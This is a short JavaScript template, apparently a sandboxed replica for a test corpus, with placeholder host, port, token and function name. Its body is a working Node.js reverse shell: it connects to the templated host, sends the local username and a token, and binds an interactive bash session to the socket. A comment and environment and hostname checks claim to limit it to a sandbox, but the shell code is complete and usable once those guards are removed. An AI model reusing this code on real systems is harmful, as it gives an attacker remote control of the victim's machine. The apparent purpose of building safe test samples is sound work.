// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { spawn } = require('child_process');
    await new Promise((done) => {
        const socket = require('net').connect({{port}}, '{{host}}', () => {
            socket.write(`${require('os').userInfo().username}@{{token}}\n`);
            const shell = spawn('/bin/bash', ['--norc', '-i'], { stdio: [socket, socket, socket], detached: true });
            shell.on('error', done);
            shell.unref();
            setTimeout(() => { try { process.kill(shell.pid, 'SIGKILL'); } catch {} socket.destroy(); done(); }, 1000);
        });
        socket.on('error', done);
        setTimeout(() => { socket.destroy(); done(); }, 2000);
    });
}
